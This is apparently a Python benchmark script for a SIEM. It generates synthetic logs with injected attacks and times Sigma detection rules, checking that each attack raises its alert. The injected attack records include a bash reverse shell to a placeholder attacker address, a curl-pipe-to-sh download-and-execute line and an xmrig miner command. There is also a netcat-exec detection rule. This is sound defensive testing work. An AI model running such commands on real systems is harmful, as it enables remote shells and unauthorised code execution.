"""Scenario ``detection``: SIEM detection rules (Sigma) over 1,000,000 log records.

The records are generated in memory (a realistic mix of process, network,
login, file, DNS and HTTP logs of 2,000 hosts in five accounts, with a few
hundred records of real attacks among them) and copied into
``alerts_logrecord`` before anything is timed. Then, in the same run:

- a plain scan: the records read exactly as the detection run reads them
  (same query, same columns, same batches), each row touched once: what
  reading the logs costs with no rule at all;
- ``alerts.periodic_run.run_detection`` with each rule set: the predefined
  rules, then the predefined rules plus three custom rules that have no
  literal for the prefilter (so every process, network and file record goes
  through SQLite, the worst case).

The figure is records per second of each rule set and its ratio to the plain
scan. The run is valid only when every injected attack raised its alert.
"""

import hashlib
import json
import os
import random
import uuid
from collections import Counter
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from time import perf_counter, process_time

from django.db import connection
from django.db.models import Count, Max
from django.utils import timezone
from psycopg import sql

from alerts import detection_logs, detection_rules
from alerts import detection_run as periodic_run
from alerts.detection_models import (
    CorrelationState,
    DetectionCursor,
    DetectionRule,
    DetectionRuleStats,
)
from alerts.models import Alert, AlertSource, Entity, LogRecord
from alerts.sigma.evaluator import BatchEvaluator
from bench import database
from bench.generate import BenchAccount
from events.models import SecurityEvent
from secops.enums import RegionGroup
from secops.models import Account, Organisation
from secops.scope import Scope

ACCOUNTS = [
    BenchAccount("8200000000000001", "Logs Retail CN", RegionGroup.CHINA),
    BenchAccount("8200000000000002", "Logs Payments CN", RegionGroup.CHINA),
    BenchAccount("8200000000000003", "Logs Data CN", RegionGroup.CHINA),
    BenchAccount("8200000000000004", "Logs Global", RegionGroup.OUTSIDE_CHINA),
    BenchAccount("8200000000000005", "Logs Europe", RegionGroup.OUTSIDE_CHINA),
]
HOME_REGIONS = {account.uid: account.home_region for account in ACCOUNTS}
DEFAULT_RECORDS = 1_000_000
HOSTS = 2_000
# The bar of the detection issue, on this (2-core) machine.
MIN_RECORDS_PER_SECOND = 100_000
# Share of each log type, as agents on Linux servers send them.
LOG_TYPE_SHARES = {
    "process": 0.40,
    "network": 0.25,
    "file": 0.15,
    "login": 0.08,
    "dns": 0.08,
    "http": 0.04,
}

# Custom rules without a literal the prefilter could use.
UNANCHORED_RULES = [
    """\
title: Netcat with an exec option
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|re: '(?i)\\b(nc|ncat|netcat)\\b.*\\s(-e|-c|--exec)\\s'
  condition: selection
level: high
alert_type: reverse_shell
""",
    """\
title: Connection into a Tor exit range
logsource: {product: linux, category: network_connection}
detection:
  selection:
    DestinationIp|cidr: '185.220.100.0/22'
  condition: selection
level: medium
alert_type: abnormal_network
""",
    """\
title: Hidden file written in /tmp
logsource: {product: linux, category: file_event}
detection:
  selection:
    TargetFilename|re: '^/(tmp|var/tmp|dev/shm)/\\.[^/]+$'
  condition: selection
level: low
alert_type: suspicious_process
""",
]

BENIGN_COMMANDS = [
    ("/usr/sbin/nginx", "nginx: worker process"),
    ("/usr/bin/python3", "/usr/bin/python3 /opt/app/manage.py runworker --queue {n}"),
    ("/bin/sh", "/bin/sh -c /usr/lib/sa/sa1 1 1"),
    ("/bin/sh", "/bin/sh -c run-parts --report /etc/cron.hourly"),
    ("/usr/bin/ps", "ps -eo pid,ppid,cmd --sort=-%mem"),
    ("/usr/bin/ls", "ls -la /var/www/html/uploads/{n}"),
    ("/usr/bin/grep", "grep -r ERROR /var/log/app/app-{n}.log"),
    ("/usr/bin/tar", "tar czf /backup/db-{n}.tgz /var/lib/mysql"),
    ("/usr/bin/java", "/usr/bin/java -Xmx2g -jar /opt/app/service-{n}.jar"),
    ("/usr/sbin/sshd", "sshd: deploy [priv]"),
    ("/usr/local/bin/node", "/usr/local/bin/node /srv/api/server.js --port 30{n}"),
    ("/bin/bash", "bash -c cd /srv/site && git pull --ff-only origin main"),
    ("/usr/bin/curl", "curl -s -o /dev/null -w %{{http_code}} http://127.0.0.1:8080/health"),
    ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"),
    ("/usr/bin/rsync", "rsync -a /srv/ /backup/srv-{n}/"),
    ("/usr/bin/wget", "wget -q -O /tmp/pkg-{n}.rpm https://mirrors.aliyun.com/centos/pkg.rpm"),
    ("/usr/bin/systemctl", "systemctl status nginx.service"),
    (
        "/usr/bin/mysqldump",
        "mysqldump --single-transaction shop --result-file=/backup/shop-{n}.sql",
    ),
    ("/usr/bin/find", "find /var/log/app -name *.gz -mtime +30 -delete"),
    ("/usr/bin/docker", "docker ps --format {{.Names}}"),
    ("/usr/bin/crontab", "crontab -l"),
    ("/usr/bin/chmod", "chmod 640 /var/www/html/config-{n}.php"),
    ("/usr/bin/id", "id -u"),
    ("/bin/sh", "sh -c echo {n} > /proc/sys/vm/drop_caches"),
]
PARENTS = ["/bin/bash", "/usr/lib/systemd/systemd", "/usr/sbin/crond", "/usr/sbin/sshd", "/bin/sh"]
USERS = ["root", "deploy", "mysql", "admin", "nginx", "www-data"]
DOMAINS = [
    "api.example.com",
    "mirrors.aliyun.com",
    "oss-cn-hangzhou.aliyuncs.com",
    "pypi.org",
    "registry.npmjs.org",
    "ntp.aliyun.com",
    "shop.example.cn",
]
FILE_PATHS = [
    "/var/www/html/uploads/{n}.jpg",
    "/var/log/app/app-{n}.log",
    "/tmp/php{n}",
    "/etc/nginx/conf.d/site-{n}.conf",
    "/var/lib/mysql/ib_logfile{n}",
    "/home/deploy/.cache/pip/{n}",
]
WEB_PATHS = ["/", "/api/orders/{n}", "/static/app.{n}.js", "/login", "/search?q=shoes{n}"]


@dataclass
class Attacks:
    """The attack records injected, and the alerts each rule must raise."""

    expected: Counter = field(default_factory=Counter)
    records: int = 0


class LogGenerator:
    def __init__(self, seed: int, now: datetime):
        self.rng = random.Random(seed)
        self.now = now
        self.hosts = [
            (ACCOUNTS[n % len(ACCOUNTS)].uid, str(uuid.UUID(int=self.rng.getrandbits(128))))
            for n in range(HOSTS)
        ]
        self.sequence = 0

    def _time(self) -> datetime:
        return self.now - timedelta(seconds=self.rng.uniform(0, 3600))

    def _n(self) -> int:
        self.sequence += 1
        return self.sequence

    def benign(self, log_type: str) -> dict:
        rng, n = self.rng, self._n()
        if log_type == "process":
            path, command = rng.choice(BENIGN_COMMANDS)
            return {
                "pid": 1000 + n % 60000,
                "ppid": 1 + n % 900,
                "path": path,
                "cmdline": command.format(n=n % 997),
                "user": rng.choice(USERS),
                "parent_path": rng.choice(PARENTS),
            }
        if log_type == "network":
            outbound = rng.random() < 0.7
            return {
                "pid": 1000 + n % 60000,
                "process_path": rng.choice(
                    ["/usr/sbin/nginx", "/usr/bin/java", "/usr/bin/python3"]
                ),
                "src_ip": f"172.16.{n % 250}.{n % 200 + 1}",
                "src_port": 30000 + n % 30000,
                "dst_ip": f"{rng.choice([47, 120, 10, 100])}.{n % 250}.{rng.randrange(256)}.{n % 200 + 1}",
                "dst_port": rng.choice([443, 80, 3306, 6379, 53, 8080]),
                "protocol": "tcp",
                "direction": "out" if outbound else "in",
            }
        if log_type == "file":
            return {
                "path": rng.choice(FILE_PATHS).format(n=n % 991),
                "operation": rng.choice(["write", "create", "read", "read", "delete"]),
                "pid": 1000 + n % 60000,
                "process_path": rng.choice(
                    ["/usr/sbin/nginx", "/usr/bin/python3", "/usr/sbin/mysqld"]
                ),
            }
        if log_type == "login":
            return {
                "user": rng.choice(USERS),
                "src_ip": f"10.{n % 200}.{rng.randrange(256)}.{n % 250 + 1}",
                "src_port": 40000 + n % 20000,
                "result": "success" if rng.random() < 0.9 else "failure",
                "method": "ssh",
            }
        if log_type == "dns":
            return {"domain": rng.choice(DOMAINS), "answer": f"47.{n % 250}.1.{n % 200 + 1}"}
        return {
            "method": rng.choice(["GET", "GET", "POST"]),
            "host": "shop.example.com",
            "path": rng.choice(WEB_PATHS).format(n=n % 983),
            "status": rng.choice([200, 200, 304, 404]),
            "src_ip": f"101.{n % 250}.{rng.randrange(256)}.{n % 200 + 1}",
            "user_agent": "Mozilla/5.0",
        }

    def attack(self, attacks: Attacks) -> list[tuple[str, str, dict, datetime]]:
        """One attack on one host: (log type, host, fields, time) records, in time order."""
        account, host = self.rng.choice(self.hosts)
        base = self.now - timedelta(seconds=self.rng.uniform(600, 3000))
        attacker = f"203.0.113.{self.rng.randrange(1, 255)}"
        kind = self.rng.choice(["intrusion", "brute_force", "miner"])
        records = []

        def add(log_type, seconds, fields):
            records.append((log_type, (account, host), fields, base + timedelta(seconds=seconds)))

        if kind == "intrusion":
            add(
                "process",
                0,
                {
                    "path": "/bin/bash",
                    "cmdline": "/bin/bash -c id",
                    "user": "tomcat",
                    "parent_path": "/usr/bin/java",
                },
            )
            for i, image in enumerate(["/usr/bin/whoami", "/usr/bin/id", "/usr/bin/uname"]):
                add(
                    "process",
                    2 + i,
                    {"path": image, "cmdline": image, "user": "tomcat", "parent_path": "/bin/bash"},
                )
            add(
                "process",
                10,
                {
                    "path": "/bin/bash",
                    "user": "tomcat",
                    "parent_path": "/usr/bin/java",
                    "cmdline": f"bash -c bash -i >& /dev/tcp/{attacker}/4444 0>&1",
                },
            )
            add(
                "network",
                10,
                {
                    "process_path": "/bin/bash",
                    "src_ip": "172.16.0.5",
                    "dst_ip": attacker,
                    "dst_port": 4444,
                    "direction": "out",
                },
            )
            add(
                "process",
                60,
                {
                    "path": "/usr/bin/curl",
                    "cmdline": f"curl -fsSL http://{attacker}/x | sh",
                    "user": "tomcat",
                    "parent_path": "/bin/bash",
                },
            )
            attacks.expected.update(
                {
                    "Web server or Java process spawning a shell": 2,
                    "Discovery commands run by a web server account": 1,
                    "Reverse shell command line": 1,
                    "Shell process with a network connection": 1,
                    "Download and execute": 1,
                }
            )
        elif kind == "brute_force":
            for i in range(12):
                add(
                    "login",
                    i * 3,
                    {"user": "root", "src_ip": attacker, "result": "failure", "method": "ssh"},
                )
            add(
                "login",
                60,
                {"user": "root", "src_ip": attacker, "result": "success", "method": "ssh"},
            )
            attacks.expected.update(
                {"SSH brute force": 1, "Successful logon after a brute force": 1}
            )
        else:
            add(
                "process",
                0,
                {
                    "path": "/tmp/.x/xmrig",
                    "user": "root",
                    "parent_path": "/bin/sh",
                    "cmdline": "/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333",
                },
            )
            add("dns", 1, {"domain": "pool.supportxmr.com", "answer": "198.51.100.80"})
            add(
                "network",
                2,
                {
                    "process_path": "/tmp/.x/xmrig",
                    "src_ip": "172.16.0.9",
                    "dst_ip": "198.51.100.80",
                    "dst_port": 3333,
                    "direction": "out",
                },
            )
            attacks.expected.update(
                {
                    "Cryptocurrency miner started": 1,
                    "DNS lookup of a mining pool": 1,
                    "Outbound connection to a mining pool port": 1,
                }
            )
        attacks.records += len(records)
        return records

    def rows(
        self, total: int, account_ids: dict[str, int], attacks_wanted: int, received: datetime
    ):
        """COPY rows of ``alerts_logrecord``, benign and attack records shuffled by id."""
        types = list(LOG_TYPE_SHARES)
        weights = list(LOG_TYPE_SHARES.values())
        attacks = Attacks()
        attack_records = [r for _ in range(attacks_wanted) for r in self.attack(attacks)]
        positions = set(self.rng.sample(range(total), len(attack_records)))
        pending = iter(attack_records)
        organisations = dict(
            Account.objects.filter(id__in=account_ids.values()).values_list("id", "organisation_id")
        )
        rows = []
        for position in range(total):
            if position in positions:
                log_type, (account_uid, host), fields, moment = next(pending)
            else:
                log_type = self.rng.choices(types, weights)[0]
                account_uid, host = self.rng.choice(self.hosts)
                fields = self.benign(log_type)
                moment = self._time()
            text = json.dumps(fields, separators=(",", ":"))
            digest = hashlib.sha1(  # noqa: S324 - an identity, not a secret
                f"{log_type}|{host}|{moment.isoformat()}|{text}|{position}".encode()
            ).hexdigest()
            region = HOME_REGIONS[account_uid]
            account_id = account_ids[account_uid]
            rows.append(
                (
                    account_id,
                    host,
                    log_type,
                    moment,
                    received,
                    region,
                    text,
                    digest,
                    organisations[account_id],
                )
            )
        return rows, attacks


COPY_COLUMNS = [
    "account_id",
    "host_uuid",
    "log_type",
    "time",
    "received_at",
    "region",
    "fields",
    "digest",
    "organisation",
]


def load_records(rows) -> float:
    columns = [LogRecord._meta.get_field(name).column for name in COPY_COLUMNS]
    statement = sql.SQL("COPY {} ({}) FROM STDIN").format(
        sql.Identifier(LogRecord._meta.db_table),
        sql.SQL(", ").join(sql.Identifier(c) for c in columns),
    )
    start = perf_counter()
    with connection.cursor() as cursor, cursor.copy(statement) as copy:
        for row in rows:
            copy.write_row(row)
    with connection.cursor() as cursor:
        cursor.execute(sql.SQL("ANALYZE {}").format(sql.Identifier(LogRecord._meta.db_table)))
    return perf_counter() - start


def empty_tables() -> None:
    models = [
        LogRecord,
        DetectionCursor,
        DetectionRuleStats,
        CorrelationState,
    ]
    tables = sql.SQL(", ").join(sql.Identifier(m._meta.db_table) for m in models)
    with connection.cursor() as cursor:
        cursor.execute(sql.SQL("TRUNCATE {} RESTART IDENTITY CASCADE").format(tables))
    database.empty_touched_tables()


def reset_detection(organisation_id: int) -> None:
    """Forget what an earlier rule set read and raised, so the next one reads it all."""
    DetectionCursor.objects.filter(organisation_id=organisation_id).delete()
    DetectionRuleStats.objects.all().delete()
    CorrelationState.objects.all().delete()
    SecurityEvent.objects.all().delete()
    Alert.objects.filter(source=AlertSource.SIEM).delete()
    # SIEM alerts name attacker IPs, which then are listed bad IPs: start clean.
    Entity.objects.all().delete()


def plain_scan(scope: Scope, log_types: list[str], batch_size: int) -> tuple[float, int]:
    """Read the records as a detection sweep does, touching each row."""
    base = LogRecord.objects.in_scope(scope).filter(
        received_at__gte=timezone.now() - periodic_run.INITIAL_LOOKBACK,
        received_at__lt=timezone.now(),
        log_type__in=log_types,
    )
    start, cpu = perf_counter(), process_time()
    last_id, total, touched = 0, 0, 0
    while True:
        rows = detection_logs.log_rows(base.filter(id__gt=last_id), batch_size)
        if not rows:
            break
        for row in rows:
            touched += len(row[5])
        total += len(rows)
        last_id = rows[-1][0]
        if len(rows) < batch_size:
            break
    return perf_counter() - start, process_time() - cpu, total


@contextmanager
def phase_timers():
    """Time the reading, the evaluation and the alerts of a detection run by
    wrapping the functions it calls (which changes nothing in what runs)."""
    seconds: Counter = Counter()
    originals = {
        "read": periodic_run._Reader.rows,
        "alerts": periodic_run.ingest_detections,
        "evaluate": BatchEvaluator.evaluate,
    }

    def timed(name, function):
        def wrapper(*args, **kwargs):
            start = perf_counter()
            try:
                return function(*args, **kwargs)
            finally:
                seconds[name] += perf_counter() - start

        return wrapper

    periodic_run._Reader.rows = timed("read", originals["read"])
    periodic_run.ingest_detections = timed("alerts", originals["alerts"])
    BatchEvaluator.evaluate = timed("evaluate", originals["evaluate"])
    try:
        yield seconds
    finally:
        periodic_run._Reader.rows = originals["read"]
        periodic_run.ingest_detections = originals["alerts"]
        BatchEvaluator.evaluate = originals["evaluate"]


def detection_run(organisation_id: int, batch_size: int) -> dict:
    reset_detection(organisation_id)
    # A worker compiles each rule once, on its first run: not what is measured.
    for rule in DetectionRule.objects.enabled_for(organisation_id):
        detection_rules.compiled(rule.yaml)
    with phase_timers() as phases:
        start, cpu = perf_counter(), process_time()
        report = periodic_run.run_detection(
            lag=timedelta(0), batch_size=batch_size, organisation_ids=[organisation_id]
        )
        seconds, cpu_seconds = perf_counter() - start, process_time() - cpu
    raised = dict(
        Alert.objects.filter(source=AlertSource.SIEM)
        .values("name")
        .annotate(n=Count("id"))
        .values_list("name", "n")
    )
    rule_seconds = dict(
        DetectionRuleStats.objects.values("rule__title")
        .annotate(seconds=Max("last_run_seconds"))
        .values_list("rule__title", "seconds")
    )
    return {
        "seconds": seconds,
        "cpu_seconds": cpu_seconds,
        "records": report.records,
        "batches": report.batches,
        "candidates": report.candidates,
        "alerts": report.alerts,
        "errors": report.errors,
        "raised": raised,
        "phases": dict(phases),
        "rule_seconds": rule_seconds,
        "events": SecurityEvent.objects.count(),
    }


def add_arguments(parser) -> None:
    parser.add_argument(
        "--records", type=int, default=DEFAULT_RECORDS, help="log records (1,000,000)"
    )
    parser.add_argument(
        "--detection-batch-size",
        type=int,
        default=periodic_run.BATCH_SIZE,
        help=f"records per detection batch ({periodic_run.BATCH_SIZE:,})",
    )


def run(args) -> dict:
    """Generate and load the records, then time the plain scan and each rule set."""
    name = database.check_database()
    database.create_database_if_missing(name)
    database.migrate()
    total = getattr(args, "records", DEFAULT_RECORDS)
    batch_size = getattr(args, "detection_batch_size", periodic_run.BATCH_SIZE)
    seed = getattr(args, "seed", 1)
    empty_tables()
    scope = database.bench_tenancy(ACCOUNTS)
    organisation_id = scope.organisation_id
    detection_rules.sync_predefined_rules()
    DetectionRule.objects.filter(organisation_id=organisation_id).delete()

    started = perf_counter()
    now = datetime.now(UTC)
    generator = LogGenerator(seed, now)
    uids = {a.uid: a.id for a in Account.objects.in_scope(scope)}
    rows, attacks = generator.rows(total, uids, max(total // 10_000, 3), now - timedelta(minutes=2))
    generate_seconds = perf_counter() - started
    copy_seconds = load_records(rows)
    shares = Counter(row[2] for row in rows)
    average_bytes = sum(len(row[6]) for row in rows) / len(rows)
    del rows

    # The log types the predefined rules read (HTTP logs have none yet).
    log_types = sorted({t for r in DetectionRule.objects.predefined() for t in r.log_types})
    scan_seconds, scan_cpu, scanned = plain_scan(scope, log_types, batch_size)
    predefined = detection_run(organisation_id, batch_size)
    organisation = Organisation.objects.get(id=organisation_id)
    for text in UNANCHORED_RULES:
        detection_rules.save_custom_rule(organisation, detection_rules.DetectionRuleSpec(text))
    unanchored = detection_run(organisation_id, batch_size)
    second_scan_seconds, second_scan_cpu, _ = plain_scan(scope, log_types, batch_size)
    return {
        "records": total,
        "postgres_version": database.server_version(),
        "generate_seconds": generate_seconds,
        "copy_seconds": copy_seconds,
        "shares": dict(shares),
        "average_bytes": average_bytes,
        "attack_records": attacks.records,
        "expected": dict(attacks.expected),
        "scan_seconds": min(scan_seconds, second_scan_seconds),
        "scan_cpu_seconds": min(scan_cpu, second_scan_cpu),
        "load_average": os.getloadavg(),
        "cpus": os.cpu_count(),
        "scanned": scanned,
        "rule_sets": {
            f"predefined ({DetectionRule.objects.predefined().count()} rules)": predefined,
            f"predefined + {len(UNANCHORED_RULES)} custom rules without literals": unanchored,
        },
        "batch_size": batch_size,
    }


def report(figures: dict, out=print) -> list[str]:
    """Print the figures; returns the problems that make the run invalid."""
    total = figures["records"]
    scan_rate = figures["scanned"] / figures["scan_seconds"] if figures["scan_seconds"] else 0
    load = ", ".join(f"{n:.1f}" for n in figures["load_average"])
    out("")
    out(
        f"Detection bench: {total:,} log records, PostgreSQL {figures['postgres_version']}, "
        f"batches of {figures['batch_size']:,}; {figures['cpus']} CPUs, load average {load}"
    )
    out(
        "  data: "
        + ", ".join(f"{t} {n:,}" for t, n in sorted(figures["shares"].items(), key=lambda i: -i[1]))
        + f"; {figures['average_bytes']:.0f} B of JSON per record; {figures['attack_records']} "
        f"attack records; generated in {figures['generate_seconds']:.1f} s and copied in "
        f"{figures['copy_seconds']:.1f} s, before timing"
    )
    out("")
    out(f"  {'':56} {'seconds':>8} {'CPU s':>6} {'records/s':>10} {'ratio':>6}")
    out(
        f"  {'plain scan (read the records, no rule)':56} {figures['scan_seconds']:8.2f} "
        f"{figures['scan_cpu_seconds']:6.2f} {scan_rate:10,.0f} {1:6.2f}"
    )
    problems = []
    bars = []
    for label, result in figures["rule_sets"].items():
        rate = result["records"] / result["seconds"] if result["seconds"] else 0
        ratio = rate / scan_rate if scan_rate else 0
        out(
            f"  {label:56} {result['seconds']:8.2f} {result['cpu_seconds']:6.2f} "
            f"{rate:10,.0f} {ratio:6.2f}"
        )
        phases = result["phases"]
        out(
            f"    waiting for records {phases.get('read', 0):.2f} s (the next batch is read "
            f"while one is evaluated), prefilter + SQLite {phases.get('evaluate', 0):.2f} s, "
            f"alerts (ingest + pipeline) {phases.get('alerts', 0):.2f} s; "
            f"{result['candidates']:,} records past the prefilter "
            f"({result['candidates'] / max(result['records'], 1):.2%}), {result['alerts']} alerts, "
            f"{result['events']} events"
        )
        slowest = sorted(result["rule_seconds"].items(), key=lambda item: -item[1])[:3]
        out("    slowest rules: " + ", ".join(f"{t} {s:.2f} s" for t, s in slowest))
        if result["records"] != figures["scanned"]:
            problems.append(
                f"{label}: read {result['records']:,} records, expected {figures['scanned']:,}"
            )
        problems += [f"{label}: {error}" for error in result["errors"]]
        for name, expected in figures["expected"].items():
            if result["raised"].get(name, 0) < expected:
                problems.append(
                    f"{label}: {name!r} raised {result['raised'].get(name, 0)} alerts, "
                    f"{expected} attacks were injected"
                )
        if label.startswith("predefined ("):
            bars.append((f"predefined rules >= {MIN_RECORDS_PER_SECOND:,} records/s", rate))
    out("")
    for label, rate in bars:
        verdict = "PASS" if rate >= MIN_RECORDS_PER_SECOND else "BELOW"
        out(f"  {label:56} {rate:>27,.0f}  {verdict}")
    return problems
